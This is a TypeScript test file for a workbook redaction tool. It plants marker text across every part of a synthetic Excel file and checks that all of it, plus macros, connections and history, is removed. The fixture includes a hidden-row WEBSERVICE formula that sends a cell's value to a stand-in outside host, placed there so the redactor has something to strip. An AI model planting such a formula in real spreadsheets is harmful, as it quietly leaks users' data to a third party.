import { findPlanted, leftIn, partsOf } from '../../../test/support/sheets';
import { madeWorkbook, type MadePart } from '../../../test/support/workbook';
import { redactDocument } from '../redact-document';
import { openDocument } from '../registry';

const OPEN_XML = 'application/vnd.openxmlformats-officedocument';
const SHEET = 'xl/worksheets/sheet1.xml';
const BOOK = 'xl/workbook.xml';
const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const RELATED = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';

const part = (name: string, type: string, of: string, as: string, content: string | Uint8Array): MadePart => ({
  name,
  type: type.includes('/') ? type : `${OPEN_XML}.spreadsheetml.${type}+xml`,
  content,
  of,
  as,
});

/** Each part contains a value of its own, or the value of a cell if programs only repeat cell content there. */
const PARTS: readonly MadePart[] = [
  part(
    'xl/comments1.xml',
    'comments',
    SHEET,
    'comments',
    `<comments ${MAIN}><authors><author>Zqauthor</author></authors><commentList><comment ref="A1" authorId="0"><text><r><t>Zqcom</t></r><r><rPr><b/></rPr><t>ment said</t></r></text></comment></commentList></comments>`,
  ),
  part(
    'xl/threadedComments/threadedComment1.xml',
    'application/vnd.ms-excel.threadedcomments+xml',
    SHEET,
    'threadedComment',
    '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment ref="A1" personId="{1}" id="{2}"><text>Zqthread</text></threadedComment></ThreadedComments>',
  ),
  part(
    'xl/persons/person.xml',
    'application/vnd.ms-excel.person+xml',
    BOOK,
    'person',
    '<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person displayName="Zqperson" id="{1}" userId="zqperson@zqmail.example" providerId="AD"/></personList>',
  ),
  part(
    'xl/drawings/vmlDrawing1.vml',
    `${OPEN_XML}.vmlDrawing`,
    SHEET,
    'vmlDrawing',
    '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape alt="Zqvml"><v:textbox><div>Zqbox</div></v:textbox></v:shape></xml>',
  ),
  part(
    'xl/drawings/drawing1.xml',
    `${OPEN_XML}.drawing+xml`,
    SHEET,
    'drawing',
    '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:sp><xdr:cNvPr id="2" name="Zqshape" descr="Zqalt"/><a:p><a:r><a:t>Zqdraw</a:t></a:r><a:r><a:t>ing</a:t></a:r></a:p></xdr:sp></xdr:wsDr>',
  ),
  part(
    'xl/charts/chart1.xml',
    `${OPEN_XML}.drawingml.chart+xml`,
    'xl/drawings/drawing1.xml',
    'chart',
    `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><c:tx><c:strRef><c:f>'Zqsheet'!$A$1</c:f><c:strCache><c:pt idx="0"><c:v>Zqseries</c:v></c:pt></c:strCache></c:strRef></c:tx></c:chartSpace>`,
  ),
  part(
    'xl/externalLinks/externalLink1.xml',
    'externalLink',
    BOOK,
    'externalLink',
    `<externalLink ${MAIN} ${RELATED}><externalBook r:id="rId1"><sheetNames><sheetName val="Zqexternal"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>Zqcached</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`,
  ),
  part(
    'xl/connections.xml',
    'connections',
    BOOK,
    'connections',
    `<connections ${MAIN}><connection id="1" name="Zqconnection"><dbPr connection="User=Zquser" command="select Zqsql"/></connection></connections>`,
  ),
  part(
    'xl/queryTables/queryTable1.xml',
    'queryTable',
    'xl/tables/table1.xml',
    'queryTable',
    `<queryTable ${MAIN} name="Zqquery" connectionId="1"/>`,
  ),
  part(
    'xl/tables/table1.xml',
    'table',
    SHEET,
    'table',
    `<table ${MAIN} id="1" name="Zqtable" displayName="Zqtable" ref="C1:C2" tableType="queryTable" comment="Zqtablecomment" totalsRowCount="1"><autoFilter ref="C1:C2"><filterColumn colId="0"><filters><filter val="Zqfilter"/></filters></filterColumn></autoFilter><tableColumns count="1"><tableColumn id="1" name="Zqheader" totalsRowLabel="Zqtotal" queryTableFieldId="1"><calculatedColumnFormula>"Zqcalculated"</calculatedColumnFormula></tableColumn></tableColumns></table>`,
  ),
  part(
    'xl/pivotCache/pivotCacheDefinition1.xml',
    'pivotCacheDefinition',
    BOOK,
    'pivotCacheDefinition',
    `<pivotCacheDefinition ${MAIN} refreshedBy="Zqrefresher"><cacheFields><cacheField name="Zqfield"><sharedItems><s v="Zqshared"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>`,
  ),
  part(
    'xl/pivotCache/pivotCacheRecords1.xml',
    'pivotCacheRecords',
    'xl/pivotCache/pivotCacheDefinition1.xml',
    'pivotCacheRecords',
    `<pivotCacheRecords ${MAIN}><r><s v="Zqrecord"/></r></pivotCacheRecords>`,
  ),
  part(
    'xl/pivotTables/pivotTable1.xml',
    'pivotTable',
    SHEET,
    'pivotTable',
    `<pivotTableDefinition ${MAIN} name="Zqpivot"/>`,
  ),
  part(
    'xl/slicerCaches/slicerCache1.xml',
    'application/vnd.ms-excel.slicerCache+xml',
    BOOK,
    'slicerCache',
    '<slicerCacheDefinition name="Zqslicer"/>',
  ),
  part('xl/model/item.data', `${OPEN_XML}.model+data`, BOOK, 'powerPivotData', 'Zqmodel'),
  part(
    'xl/revisions/revisionHeaders.xml',
    'revisionHeaders',
    BOOK,
    'revisionHeaders',
    `<headers ${MAIN}><header userName="Zqrevisor"/></headers>`,
  ),
  part(
    'xl/revisions/userNames.xml',
    'userNames',
    BOOK,
    'usernames',
    `<users ${MAIN}><userInfo name="Zqeditor"/></users>`,
  ),
  part(
    'xl/printerSettings/printerSettings1.bin',
    `${OPEN_XML}.spreadsheetml.printerSettings`,
    SHEET,
    'printerSettings',
    Buffer.from('Zqprinter', 'utf16le'),
  ),
  part('xl/vbaProject.bin', 'application/vnd.ms-office.vbaProject', BOOK, 'vbaProject', 'Zqmacro'),
  part(
    'xl/customProperty1.bin',
    `${OPEN_XML}.spreadsheetml.customProperty`,
    SHEET,
    'customProperty',
    Buffer.from('Zqproperty', 'utf16le'),
  ),
  part('xl/xmlMaps.xml', 'application/xml', BOOK, 'xmlMaps', '<MapInfo><Map Name="Zqmap"/></MapInfo>'),
  part(
    'customXml/item1.xml',
    'application/xml',
    BOOK,
    'customXml',
    Buffer.from(
      '\uFEFF<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">WnFtYXNodXA=</DataMashup>',
      'utf16le',
    ),
  ),
  part('customXml/item2.xml', 'application/xml', BOOK, 'customXml', '<form><owner>Zqform</owner></form>'),
  part(
    'docProps/core.xml',
    'application/vnd.openxmlformats-package.core-properties+xml',
    '',
    'core-properties',
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Zqcreator</dc:creator><dc:title>about Zqtitle</dc:title></cp:coreProperties>',
  ),
  part(
    'docProps/app.xml',
    `${OPEN_XML}.extended-properties+xml`,
    '',
    'extended-properties',
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><Manager>Zqmanager</Manager><TitlesOfParts><vt:vector size="1" baseType="lpstr"><vt:lpstr>Zqsheet</vt:lpstr></vt:vector></TitlesOfParts></Properties>',
  ),
  part('docProps/thumbnail.jpeg', 'image/jpeg', '', 'thumbnail', 'Zqthumbnail'),
];

const CONTENT = `<sheetPr codeName="Zqcode"/><sheetData>
  <row r="1"><c r="A1" t="str"><v>Zqcell</v></c><c r="B1"><f>[1]Sheet9!A1</f><v>5</v></c><c r="C1" t="str"><v>Zqheader</v></c></row>
  <row r="2" hidden="1"><c r="A2" t="s"><v>0</v></c><c r="B2"><f>WEBSERVICE("https://zqhost.example/?"&amp;A1)</f><v>0</v></c></row></sheetData>
  <protectedRanges><protectedRange name="Zqrange" sqref="A1"/></protectedRanges>
  <scenarios><scenario name="Zqscenario" user="Zqscenuser" comment="by Zqscencomment"><inputCells r="A1" val="Zqinput"/></scenario></scenarios>
  <customSheetViews><customSheetView guid="{1}"><headerFooter><oddHeader>Zqviewheader</oddHeader></headerFooter></customSheetView></customSheetViews>
  <autoFilter ref="A1:B2"><filterColumn colId="0"><customFilters><customFilter val="Zqcustom*"/></customFilters></filterColumn></autoFilter>
  <conditionalFormatting sqref="A1"><cfRule type="containsText" priority="1" operator="containsText" text="Zqrule"><formula>NOT(ISERROR(SEARCH("Zqrule",A1)))</formula></cfRule></conditionalFormatting>
  <dataValidations count="1"><dataValidation type="list" promptTitle="Zqprompt title that is rather long" prompt="Zqpromptext" errorTitle="Zqerror" error="no Zqerrortext" sqref="A1"><formula1>"Zqchoice,Zqother"</formula1></dataValidation></dataValidations>
  <hyperlinks><hyperlink ref="A1" r:id="rIdMail" display="Zqdisplay" tooltip="to Zqtooltip"/><hyperlink ref="A2" location="'Zqsheet'!A1" display="x"/></hyperlinks>
  <headerFooter><oddHeader>&amp;L&amp;"Arial"Zqleft&amp;CZqcentre</oddHeader><firstFooter>Zqfooter</firstFooter></headerFooter>
  <oleObjects><oleObject progId="Zqole"/></oleObjects>
  <extLst><ext xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" uri="{1}"><x14:dataValidations xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation><x14:formula1><xm:f>"Zqnew"</xm:f></x14:formula1><xm:sqref>A1</xm:sqref></x14:dataValidation></x14:dataValidations></ext><ext uri="{2}"><strange xmlns="urn:strange" says="Zqcell">Zqunknown</strange></ext></extLst>`;

const made = (): Uint8Array =>
  madeWorkbook({
    sheets: [CONTENT, '<sheetData/>'],
    names: ['Zqsheet', 'Other'],
    strings:
      '<si><r><t>Zq</t></r><r><t>rich</t></r><rPh sb="0" eb="1"><t>Zqcell</t></rPh></si><si><t>Zqorphan</t></si>',
    styles:
      '<numFmts><numFmt numFmtId="170" formatCode="&quot;Zqcell &quot;0"/></numFmts><cellXfs><xf numFmtId="0"/></cellXfs><cellStyles><cellStyle name="Zqstyle" xfId="0"/></cellStyles>',
    book: `<externalReferences><externalReference r:id="rId9"/></externalReferences><definedNames><definedName name="Zqname" comment="Zqnamecomment">'Zqsheet'!$A$1</definedName><definedName name="Outside">[1]Zqexternal!$A$1</definedName><definedName name="Literal">"Zqliteral"</definedName></definedNames><fileSharing userName="Zqsharer"/><x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" url="C:\\Users\\Zquser\\"/><pivotCaches><pivotCache cacheId="1" r:id="rId8"/></pivotCaches>`,
    parts: PARTS,
    links: {
      [SHEET]:
        '<Relationship Id="rIdMail" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:zqmailto@zqmail.example" TargetMode="External"/>',
    },
  });

test('nothing is left of what stands in any place of a workbook, and what goes is said', async () => {
  const { bytes, warnings } = await redactDocument(openDocument(made()), findPlanted);
  expect(leftIn(bytes)).toEqual([]);
  const utf16 = Buffer.from('Zq', 'utf16le').toString('latin1');
  const parts = partsOf(bytes);
  expect([...parts].filter(([, text]) => Buffer.from(text).toString('latin1').includes(utf16))).toEqual([]);
  expect(
    [...parts.keys()].filter((name) =>
      /pivot|slicer|model|revision|printer|vba|external|connection|query|item1|thumbnail|customProperty/.test(name),
    ),
  ).toEqual([]);
  expect(parts.get(SHEET)).toContain('<c r="B1"><v>5</v></c>');
  expect(warnings.map(({ code }) => code).sort()).toEqual([
    'CONNECTION_REMOVED',
    'FORMULA_REMOVED',
    'HISTORY_REMOVED',
    'MACROS_REMOVED',
    'PIVOT_REMOVED',
  ]);
});

test('what is removed once is removed again without a change', async () => {
  const once = await redactDocument(openDocument(made()), findPlanted);
  const twice = await redactDocument(openDocument(once.bytes), findPlanted);
  expect(partsOf(twice.bytes)).toEqual(partsOf(once.bytes));
});

it('text of shared strings outside of strings is read', async () => {
  const bytes = madeWorkbook({
    sheets: ['<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'],
    strings: '<si><t>Zqcell</t></si><other><t>Zqother</t></other>',
  });
  const { bytes: written } = await redactDocument(openDocument(bytes), findPlanted);
  expect(leftIn(written)).toEqual([]);
});
